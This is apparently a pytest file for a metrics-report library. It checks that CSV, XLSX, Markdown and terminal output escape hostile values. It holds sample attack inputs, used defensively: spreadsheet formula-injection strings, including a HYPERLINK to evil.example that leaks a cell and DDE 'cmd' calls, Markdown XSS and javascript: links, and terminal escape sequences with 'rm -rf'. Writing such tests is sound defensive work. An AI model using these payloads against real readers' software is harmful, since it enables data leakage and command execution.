"""#21 point 5: report output cannot attack its reader (a spreadsheet, Markdown, a terminal).

Each test is named after a finding of #21 and fails on the code before the fix.
"""

from __future__ import annotations

import csv
import io
import zipfile
from dataclasses import replace

import pytest
from report_tables import METRICS, TEAM_COLUMNS, TEAM_ROWS, team_report

from metricflow_lite.report import render_report
from metricflow_lite.report.escaping import (
    chart_title,
    markdown_text,
    spreadsheet_text,
    terminal_text,
)
from metricflow_lite.report.formatting import display_width
from metricflow_lite.report.frame import ReportTable
from metricflow_lite.report.query_table import render_table
from metricflow_lite.spec.model import Grain

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def table_with_team(name: object, label: str | None = None) -> ReportTable:
    """The team table with 二组 renamed to a hostile value (and a hostile metric label)."""
    metrics = dict(METRICS)
    if label is not None:
        metrics["offered_calls"] = replace(METRICS["offered_calls"], label=label)
    rows = [(r[0], name if r[1] == "二组" else r[1], *r[2:]) for r in TEAM_ROWS]
    return ReportTable.from_rows(team_report(), metrics, Grain.WEEK, TEAM_COLUMNS, rows)


@pytest.mark.parametrize("payload", PAYLOADS, ids=["=", "+", "-", "@", "tab", "cr"])
def test_csv_data_value_starting_with_a_formula_character_is_neutralised(payload: str) -> None:
    text = render_report(table_with_team(payload), "csv")
    assert isinstance(text, str)
    teams = [row[1] for row in csv.reader(io.StringIO(text, newline=""))][1:]
    assert "'" + payload in teams  # OWASP: a leading ' makes the cell text
    assert payload not in teams


def test_csv_numbers_stay_numbers() -> None:
    text = render_report(table_with_team("二组"), "csv")
    assert isinstance(text, str)
    rows = list(csv.DictReader(io.StringIO(text)))
    # a negative change is a number, written as one (no quote prefix): 一组 AHT 280 -> 272 s
    assert rows[2]["aht_seconds_change"] == repr(-8 / 280)
    assert rows[2]["offered_calls"] == "400"


def test_xlsx_metric_label_starting_with_equals_is_not_a_chart_title_reference() -> None:
    data = render_report(table_with_team("二组", label="=Sheet1!A1"), "xlsx")
    assert isinstance(data, bytes)
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        charts = [book.read(n).decode() for n in book.namelist() if n.startswith("xl/charts/")]
    titles = [c.split("<c:title>")[1].split("</c:title>")[0] for c in charts if "<c:title>" in c]
    assert titles
    for title in titles:
        assert "<c:f>" not in title  # a formula reference would read the cell instead
    assert any("=Sheet1!" in title for title in titles)  # the label itself is shown


def test_xlsx_text_cell_starting_with_a_formula_character_keeps_the_quote_prefix() -> None:
    from openpyxl import load_workbook

    data = render_report(table_with_team("=1+1", label="@label"), "xlsx")
    assert isinstance(data, bytes)
    sheet = load_workbook(io.BytesIO(data)).worksheets[1]
    cells = [c for row in sheet.iter_rows() for c in row if c.value in ("=1+1", "@label")]
    assert {c.value for c in cells} == {"=1+1", "@label"}
    assert all(c.data_type == "s" and c.quotePrefix for c in cells)


def test_markdown_report_embeds_no_raw_html_from_labels_and_data() -> None:
    evil = '<img src=x onerror="alert(1)">'
    text = render_report(table_with_team(f"[x](javascript:alert(1)) {evil}", label=evil), "md")
    assert isinstance(text, str)
    assert "<img" not in text and "[x](" not in text  # no tag, no link
    assert '&lt;img src=x onerror="alert(1)"&gt;' in text
    assert "\\[x\\](javascript:alert(1))" in text


def test_osc_escape_and_line_breaks_in_data_do_not_reach_the_terminal() -> None:
    hostile = "二组\x1b]0;owned\x07\x1b[2J\r\nrm -rf"
    text = render_report(table_with_team(hostile), "table")
    assert isinstance(text, str)
    assert "\x1b" not in text and "\x07" not in text and "\r" not in text
    assert "二组 rm -rf" in text
    widths = {display_width(line) for line in text.splitlines()}
    assert len(widths) == 1  # one cell per line: every row still aligned


def test_query_table_strips_control_characters() -> None:
    text = render_table(["team\x1b[31m"], [["a\x1b]8;;http://evil\x07link\x1b]8;;\x07\nb"]])
    assert "\x1b" not in text and "\n" not in text.splitlines()[-1]
    assert text.splitlines()[-1] == "alink b"
    assert text.splitlines()[0] == "team"


@pytest.mark.parametrize(
    ("given", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("-5", "'-5"),
        ("plain", "plain"),
        ("a=b", "a=b"),
    ],
)
def test_spreadsheet_text(given: str, expected: str) -> None:
    assert spreadsheet_text(given) == expected


def test_chart_title_and_markdown_and_terminal_helpers() -> None:
    assert chart_title("x!A1") == "x!\u2060A1" and chart_title("放弃率 趋势") == "放弃率 趋势"
    assert markdown_text("a*b*_c_|d") == "a\\*b\\*\\_c\\_\\|d"
    assert markdown_text("center_daily") == "center_daily"
    assert terminal_text("a\x9b2Jb\tc\x00") == "ab c"
